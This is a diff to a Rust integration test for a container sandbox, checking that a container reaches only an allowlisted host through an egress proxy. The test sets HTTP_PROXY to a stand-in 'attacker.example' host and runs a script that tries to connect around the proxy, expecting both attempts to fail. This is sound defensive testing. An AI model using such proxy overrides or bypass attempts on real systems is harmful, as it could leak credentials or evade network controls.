@@ -4,6 +4,7 @@
 //! pass without one.
 
 mod container_common;
+mod egress_common;
 
 use std::time::Duration;
 
@@ -268,15 +269,9 @@ fn engine_containers_are_removed_after_success_error_timeout_and_cancel() {
 }
 
 #[test]
-fn engine_allowlisted_network_fails_closed_and_images_are_never_pulled() {
+fn engine_images_are_never_pulled() {
     let _serial = serial();
-    let images = engine_images();
-    let caps_allow =
-        caps(&images.python_archive(), DOCKER).net("allow:example.com:443".parse().expect("net"));
-    let err = sandbox()
-        .run(&Tool::command(["true"]), &caps_allow)
-        .expect_err("allowlist");
-    assert_eq!(err.kind(), ErrorKind::Unenforceable);
+    engine_images();
     let err = sandbox()
         .run(
             &Tool::command(["true"]),
@@ -286,6 +281,68 @@ fn engine_allowlisted_network_fails_closed_and_images_are_never_pulled() {
     assert_eq!(err.kind(), ErrorKind::InvalidRequest);
     assert!(err.to_string().contains("never pulls"), "{err}");
     assert!(leftover_containers().is_empty());
+}
+
+#[test]
+fn engine_container_reaches_only_the_allowed_host_through_the_proxy() {
+    let _serial = serial();
+    let images = engine_images();
+    assert!(is_root(), "the engine suites run as root (.ci/run)");
+    let up = egress_common::Upstream::start();
+    let rule = format!("{}:{}", up.name, egress_common::HTTP_PORT);
+    let caps = caps(&images.python_archive(), DOCKER)
+        .net(format!("allow:{rule}").parse().expect("net"))
+        .env("HTTP_PROXY", "http://attacker.example:1");
+    // busybox wget follows http_proxy with the run's credential; python3 tries to go
+    // around the proxy, to the upstream's address and to a public resolver.
+    let script = format!(
+        "wget -q -O - {ok}; echo; wget -q -O - http://example.com/ 2>&1 || echo refused; \
+         python3 -c 'import socket\n\
+         for a in [(\"{ip}\", {port}), (\"8.8.8.8\", 53)]:\n\
+         \x20   s = socket.socket(); s.settimeout(5)\n\
+         \x20   try:\n\
+         \x20       s.connect(a); print(\"direct connected\")\n\
+         \x20   except OSError as err:\n\
+         \x20       print(\"direct\", err.errno)'",
+        ok = up.http_url("hello"),
+        ip = up.ip,
+        port = egress_common::HTTP_PORT,
+    );
+    let out = run(&Tool::command(["/bin/sh", "-c", &script]), &caps);
+    let text = stdout(&out);
+    assert!(
+        text.contains(egress_common::HELLO),
+        "{text}\n{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    assert!(text.contains("refused"), "{text}");
+    assert_eq!(
+        text.matches("direct 101").count(),
+        2,
+        "ENETUNREACH expected: {text}"
+    );
+    let receipt = &out.receipt;
+    assert!(
+        receipt.has_kind(Capability::Net, strata::Mechanism::Proxy),
+        "{receipt}"
+    );
+    let net = receipt.network.as_ref().expect("network receipt");
+    assert!(net.decisions[0].allowed, "{net:?}");
+    assert_eq!(net.decisions[0].rule.as_deref(), Some(rule.as_str()));
+    assert_eq!(net.decisions[1].host, "example.com");
+    assert!(!net.decisions[1].allowed);
+    // The tool's container and its network holder are both gone.
+    assert!(
+        leftover_containers().is_empty(),
+        "{:?}",
+        leftover_containers()
+    );
+
+    let runsc = caps.clone().runtime(ContainerRuntime::Runsc);
+    let err = sandbox()
+        .run(&Tool::command(["true"]), &runsc)
+        .expect_err("gVisor cannot reach the listener");
+    assert_eq!(err.kind(), ErrorKind::Unenforceable, "{err}");
 }
 
 #[test]
